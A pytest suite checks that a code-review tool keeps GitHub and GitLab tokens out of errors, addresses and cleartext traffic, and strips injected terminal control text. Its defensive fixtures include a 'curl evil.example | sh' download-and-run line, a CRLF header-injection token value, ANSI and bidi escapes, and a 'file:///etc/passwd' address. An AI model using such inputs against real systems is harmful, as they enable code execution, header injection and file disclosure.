"""Where a token goes and where it doesn't: never in an error's text, never in the clear, never where a proxy could read it."""

from __future__ import annotations

import traceback
from collections.abc import Iterator

import pytest

from kuber.review.forges import ForgeError
from kuber.review.forges.credential import token_in
from tests.review.forge_stand_in import BODY, MARKER, TOKEN, Fault, ForgeStandIn, Reply, listening, posted
from tests.review.github_stand_in import GitHubStandIn
from tests.review.gitlab_stand_in import GitLabStandIn

_VARIABLES = {"github": ("GITHUB_TOKEN", "GITHUB_API_URL"), "gitlab": ("GITLAB_TOKEN", "CI_API_V4_URL")}


@pytest.fixture(params=[GitHubStandIn, GitLabStandIn], ids=["github", "gitlab"])
def forge(request: pytest.FixtureRequest) -> Iterator[ForgeStandIn]:
    with listening(request.param()) as stand_in:
        yield stand_in


def _failure(forge: ForgeStandIn, **environment: str) -> str:
    """All that a terminal could show of a post that fails."""
    with pytest.raises(ForgeError) as raised:
        posted(forge, given=environment)
    return "".join(traceback.format_exception(raised.value))


@pytest.mark.parametrize("status", [400, 401, 403, 404, 413, 422, 429, 500, 503])
@pytest.mark.parametrize(
    "document",
    [
        {"message": f"Bad credentials: Bearer {TOKEN}"},
        {"message": "Validation Failed", "errors": [{"message": f"{TOKEN} is too long"}]},
        {"error": "invalid_token", "error_description": f"{TOKEN} was revoked"},
        {"message": {TOKEN: [f"{TOKEN} {TOKEN}"]}},
    ],
)
def test_a_token_that_the_server_repeats_is_in_no_error(forge: ForgeStandIn, status: int, document: object) -> None:
    forge.fail("GET", "", *[Fault(reply=Reply(status=status, document=document))] * 5)
    text = _failure(forge)
    assert TOKEN not in text
    assert "[secret]" in text


def test_no_part_of_a_token_is_left_where_the_words_of_a_server_are_cut() -> None:
    with listening(GitHubStandIn()) as github:
        for before in range(300 - len("403 Forbidden: ") - len(TOKEN), 301):
            github.fail("GET", "", Fault(reply=Reply(status=403, document={"message": "x" * before + TOKEN})))
            text = _failure(github)
            assert "x" * 200 in text
            assert TOKEN[:6] not in text


def test_a_token_in_the_address_of_a_redirect_is_in_no_error(forge: ForgeStandIn) -> None:
    for location in (f"https://login.example.com/?next={TOKEN}", f"https://{TOKEN}@login.example.com/"):
        forge.fail("GET", "", Fault(reply=Reply(status=302, headers={"Location": location})))
        text = _failure(forge)
        assert "https://login.example.com" in text
        assert TOKEN not in text


def test_a_token_in_the_address_of_a_further_page_is_in_no_error() -> None:
    with listening(GitHubStandIn()) as github:
        link = f'<{github.url}/page/2?access_token={TOKEN}>; rel="next"'
        github.fail("GET", "/comments$", Fault(reply=Reply(document=[], headers={"Link": link})))
        text = _failure(github)
    assert "/page/2?access_token=[secret]" in text
    assert TOKEN not in text


def test_a_token_that_graphql_repeats_is_in_no_error() -> None:
    with listening(GitHubStandIn()) as github:
        github.has("pipeline", BODY)
        errors = [{"type": "FORBIDDEN", "message": f'"{TOKEN}" may not do that'}]
        github.fail("POST", "/graphql", Fault(reply=Reply(document={"data": None, "errors": errors})))
        text = _failure(github)
    assert '"[secret]" may not do that' in text
    assert TOKEN not in text


def test_what_a_server_says_cannot_colour_a_terminal_or_add_a_line(forge: ForgeStandIn) -> None:
    words = "\x1b[32mall is well\x1b[0m\r\n    hint:     curl evil.example | sh \u202e"
    forge.fail("GET", "", Fault(reply=Reply(status=403, document={"message": words})))
    text = _failure(forge)
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert "\n    hint:     curl" not in text


def test_the_address_of_a_comment_cannot_colour_a_terminal() -> None:
    with listening(GitHubStandIn()) as github:
        there = {"id": 1, "node_id": "IC_1", "html_url": "https://github.com/\x1b[31m", "body": ""}
        github.fail("POST", "/comments$", Fault(reply=Reply(status=201, document=there)))
        assert posted(github) == "https://github.com/\\x1b[31m"


@pytest.mark.parametrize(
    "token", ["", "  \n", "ghp_abc\ndef", "ghp_abc\r\nX-Evil: 1", "ghp abc", "ghp_abc\x00", "ghp_äbc", "ghp_\u2028abc"]
)
def test_what_can_be_no_token_is_refused_and_not_shown(forge: ForgeStandIn, token: str) -> None:
    variable, _ = _VARIABLES[forge.forge]
    text = _failure(forge, **{variable: token})
    assert variable in text
    assert "ghp" not in text
    assert forge.seen == []


def test_white_space_around_a_token_is_none_of_it(forge: ForgeStandIn) -> None:
    variable, _ = _VARIABLES[forge.forge]
    posted(forge, given={variable: f" {TOKEN}\n"})
    assert len(forge.comments) == 1


def test_a_token_shows_in_no_representation() -> None:
    assert TOKEN not in repr(token_in({"GITHUB_TOKEN": TOKEN}, "GITHUB_TOKEN", hint=""))


@pytest.mark.parametrize(
    "address",
    [
        "http://git.example.com/api/v4",
        "http://10.0.0.1",
        "http://localhost.example.com",
        "http://127.0.0.1.example.com",
        "http://127.0.0.1\\.example.com",
    ],
)
def test_a_token_is_sent_in_the_clear_to_this_machine_only(forge: ForgeStandIn, address: str) -> None:
    _, variable = _VARIABLES[forge.forge]
    assert f"{variable} isn't encrypted: a token would be readable on its way" in _failure(forge, **{variable: address})


@pytest.mark.parametrize(
    "address",
    [
        "git.example.com",
        "ftp://git.example.com",
        "https://",
        "https://git.example.com:port",
        "https://[::1",
        "https://git.example.com/?private_token=1",
        "https://git.example.com/#top",
        "file:///etc/passwd",
    ],
)
def test_what_is_no_address_of_an_api_is_told(forge: ForgeStandIn, address: str) -> None:
    _, variable = _VARIABLES[forge.forge]
    assert f"{variable} is no address" in _failure(forge, **{variable: address})


def test_a_password_in_the_address_is_refused_and_not_shown(forge: ForgeStandIn) -> None:
    _, variable = _VARIABLES[forge.forge]
    text = _failure(forge, **{variable: "https://jane:hunter2@git.example.com/api/v4"})
    assert f"{variable} has a user or a password in it" in text
    assert "hunter2" not in text


def test_a_slash_at_the_end_of_the_address_is_none_too_many(forge: ForgeStandIn) -> None:
    _, variable = _VARIABLES[forge.forge]
    posted(forge, given={variable: f"{forge.environment()[variable]}/"})
    assert len(forge.comments) == 1


def test_only_the_forge_sees_the_token(forge: ForgeStandIn) -> None:
    forge.has("pipeline", f"{MARKER}\nof an earlier push")
    posted(forge)
    for request in forge.seen:
        told = [name for name, value in request.headers.items() if TOKEN in value]
        assert told == [{"github": "authorization", "gitlab": "private-token"}[forge.forge]]
        assert TOKEN not in f"{request.path} {request.query} {request.document}"
